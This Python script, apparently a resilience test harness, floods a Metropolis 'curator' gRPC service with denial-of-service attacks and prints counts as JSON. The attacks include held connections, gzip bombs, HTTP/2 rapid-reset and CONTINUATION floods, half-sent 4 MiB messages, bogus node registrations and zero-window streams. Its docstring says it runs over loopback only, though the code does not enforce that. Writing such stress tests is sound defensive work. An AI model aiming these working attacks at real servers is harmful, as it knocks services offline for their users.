"""What a stranger, or one node, can throw at a curator. As a program:

    attackers.py KIND ADDRESS SECONDS [NAME=VALUE…]

It does so for that long, over loopback only, and prints as JSON what it could do.
Each kind is bounded in connections and in what it holds; none of them waits politely.
"""

import collections
import datetime
import json
import os
import pathlib
import resource
import socket
import struct
import sys
import tempfile
import time
import zlib

from raw_http2 import (CONTINUATION, END_HEADERS, HEADERS, INITIAL_WINDOW_SIZE, RST_STREAM,
                       RawHttp2, frame, header_block, message)

CURATOR = "/metropolis.node.core.curator.proto.api.Curator/"
REGISTER = CURATOR + "RegisterNode"
CA = "/metropolis.node.core.curator.proto.api.CuratorLocal/GetCACertificate"
CANCEL = struct.pack(">I", 8)


class Attack:
    """`options`: NAME=VALUE, all strings. A kind is a method without parameters."""

    def __init__(self, address, seconds, options):
        self.address, self.options = address, options
        self.until = time.monotonic() + seconds
        self.did = collections.Counter()

    def number(self, name, default):
        return int(self.options.get(name, default))

    def goes_on(self):
        return time.monotonic() < self.until

    def connections(self, **options):
        """A new one, each time that the last was cut off."""
        while self.goes_on():
            try:
                connection = RawHttp2(self.address, self.options.get("certificate"),
                                      self.options.get("key"), **options)
            except OSError:
                self.did["turned away"] += 1
                time.sleep(0.02)
                continue
            self.did["connections"] += 1
            connection.read(0.05)
            yield connection
            connection.close()

    # Connections.

    def connects(self):
        """Held, without a word."""
        host, port = self.address.rsplit(":", 1)
        held = []
        while self.goes_on():
            if len(held) >= self.number("count", 2048):
                time.sleep(0.05)
                continue
            each = socket.socket()
            each.settimeout(1)
            try:
                each.connect((host, int(port)))
                held.append(each)
                self.did["connects"] += 1
            except OSError:
                each.close()
                self.did["failed"] += 1

    def tls_clients(self):
        """Each asks for the CA, as anybody may, and stays."""
        held = []
        block = header_block(CA)
        while self.goes_on():
            if len(held) >= self.number("count", 1000):
                time.sleep(0.05)
                continue
            try:
                connection = RawHttp2(self.address, timeout=2)
                held.append(connection)
                stream = connection.open(block)
                connection.data(stream, message(b""), end=True)
                connection.read(0.005)
                self.did["clients"] += 1
            except OSError:
                self.did["turned away"] += 1
        for connection in held:
            try:
                connection.read()
            except OSError:
                pass
        self.did["held to the end"] = sum(not connection.is_over for connection in held)

    # Memory.

    def unfinished(self):
        """On each of many streams all of a message but its last byte; to methods that only a
        leader serves, and that every curator does."""
        size = (4 << 20) - 64
        blocks = [header_block(REGISTER), header_block(CA)]
        body = message(b"\x0a" + b"\x80\x80\x80\x01" + b"A" * (size - 6), length=size)
        for connection in self.connections():
            try:
                todo = {connection.open(blocks[i % 2]): 0
                        for i in range(self.number("streams", 300))}
                while self.goes_on() and todo and connection.read(0.01):
                    for stream in list(todo):
                        at = todo[stream]
                        if stream in connection.answered:
                            del todo[stream]
                            continue
                        sent = connection.data(stream, body[at:at + (1 << 20)])
                        todo[stream] += sent
                        self.did["MiB"] += sent / (1 << 20)
            except OSError:
                pass

    def gzip_bombs(self):
        """Small messages that inflate to `MiB` each, whole ones."""
        packer = zlib.compressobj(9, zlib.DEFLATED, 31)
        packed = b"".join(packer.compress(bytes(1 << 20))
                          for _ in range(self.number("MiB", 512))) + packer.flush()
        block = header_block(REGISTER, [("grpc-encoding", "gzip")])
        bomb = message(packed, compressed=True)
        for connection in self.connections():
            try:
                todo = {connection.open(block): 0 for _ in range(4)}
                while self.goes_on() and todo and connection.read(0.01):
                    for stream in list(todo):
                        at = todo[stream]
                        todo[stream] += connection.data(stream, bomb[at:], end=True)
                        if todo[stream] >= len(bomb) or stream in connection.answered:
                            del todo[stream]
                            self.did["bombs"] += 1
                while self.goes_on() and connection.read(0.05) and not all(
                        connection.answered.get(s) for s in connection.windows if s):
                    pass
            except OSError:
                pass

    def resets(self):
        """Calls that are taken back as they are made."""
        block = header_block(REGISTER)
        for connection in self.connections():
            try:
                while self.goes_on() and connection.read():
                    frames = []
                    for _ in range(100):
                        stream = connection.next_stream()
                        frames.append(frame(HEADERS, END_HEADERS, stream, block) +
                                      frame(RST_STREAM, 0, stream, CANCEL))
                    connection.windows.clear()
                    connection.send(b"".join(frames))
                    self.did["resets"] += 100
            except OSError:
                pass

    def endless_headers(self):
        """One header that goes on and on."""
        part = b"\0" + b"\x01x" + b"\x7f\x80\x40" + b"a" * 8319
        for connection in self.connections():
            try:
                stream = connection.next_stream()
                connection.send(frame(HEADERS, 0, stream, header_block(REGISTER)))
                while self.goes_on() and connection.read():
                    connection.send(frame(CONTINUATION, 0, stream, part) * 16)
                    self.did["MiB"] += 16 * len(part) / (1 << 20)
            except OSError:
                pass

    # Work.

    def registrations(self):
        """Calls of RegisterNode with a wrong ticket, as many under way as fit, of `bytes` each;
        with a self-made key (certificate=), or without one."""
        ticket = b"\x0a\x20" + b"x" * 32
        body = message(field(1, ticket) + field(2, b"j" * 32) +
                       field(15, b"p" * self.number("bytes", 0)))
        block, most = header_block(REGISTER), self.number("under_way", 900)
        for connection in self.connections():
            try:
                while self.goes_on() and connection.read(0.001):
                    connection.forget_ended()
                    calls = 0
                    while len(connection.windows) < most and calls < 300 and \
                            min(connection.window, connection.initial_window) > len(body):
                        connection.data(connection.open(block), body, end=True)
                        calls += 1
                    self.did["calls"] += calls
            except OSError:
                pass

    def tickets(self):
        """Nodes that are registered with the right ticket (ticket=, hex), without end."""
        ticket = bytes.fromhex(self.options["ticket"])
        labels = b"".join(field(1, field(1, f"{'a' * 50}{i}".encode()) + field(2, b"b" * 63))
                          for i in range(64))
        block = header_block(REGISTER)
        with tempfile.TemporaryDirectory(prefix="curator-test-key-") as directory:
            pem = pathlib.Path(directory) / "pem"
            while self.goes_on():
                pem.write_bytes(new_ephemeral())
                try:
                    self.did["answered" if self._call(pem, block, message(
                        field(1, ticket) + field(2, os.urandom(32)) + field(4, labels)))
                        else "cut off"] += 1
                except OSError:
                    self.did["turned away"] += 1

    def _call(self, pem, block, body):
        """Whether it was answered at all."""
        connection = RawHttp2(self.address, pem, timeout=5)
        try:
            stream = connection.open(block)
            connection.data(stream, body, end=True)
            while self.goes_on() and stream not in connection.answered and connection.read(0.1):
                pass
            return stream in connection.answered
        finally:
            connection.close()

    # Patience.

    def unread(self):
        """Streams of a member that are never read: no window is given."""
        calls = [(CURATOR + "Watch", field(2, b"")),
                 ("/metropolis.proto.api.Management/GetNodes", b""),
                 ("/curator.v1.Nodes/List", b"")]
        held = []
        for at in range(self.number("count", 9)):
            path, body = calls[at % len(calls)]
            try:
                connection = RawHttp2(self.address, self.options["certificate"],
                                      self.options["key"], settings=[(INITIAL_WINDOW_SIZE, 0)])
                held.append(connection)
                connection.read(0.1)
                for _ in range(self.number("streams", 300)):
                    stream = connection.open(header_block(path))
                    self.did["streams"] += bool(connection.data(stream, message(body), end=True))
                    connection.read()
            except OSError:
                self.did["turned away"] += 1
        while self.goes_on():
            for connection in held:
                try:
                    connection.read(0.02)
                except OSError:
                    pass
        self.did["connections to the end"] = sum(not each.is_over for each in held)


def new_ephemeral():
    """PEM of a new key and the certificate that it has signed for itself."""
    # Imported here: at the lowest priority the other kinds would begin seconds later.
    from cryptography import x509
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import ed25519
    key, nobody, now = ed25519.Ed25519PrivateKey.generate(), x509.Name([]), datetime.datetime.now()
    day = datetime.timedelta(1)
    certificate = x509.CertificateBuilder(
        nobody, nobody, key.public_key(), 1, now - day, now + day).sign(key, None)
    return certificate.public_bytes(serialization.Encoding.PEM) + key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption())


def field(number, data):
    """A length-delimited field of a message."""
    length, coded = len(data), bytearray([number << 3 | 2])
    while length >= 128:
        coded.append(length % 128 | 128)
        length //= 128
    return bytes(coded) + bytes([length]) + data


def main(kind, address, seconds, *options):
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 1 << 16), hard))
    attack = Attack(address, float(seconds), dict(option.split("=", 1) for option in options))
    try:
        getattr(attack, kind)()
    finally:
        print(json.dumps({what: round(count, 1) for what, count in attack.did.items()}))


if __name__ == "__main__":
    main(*sys.argv[1:])
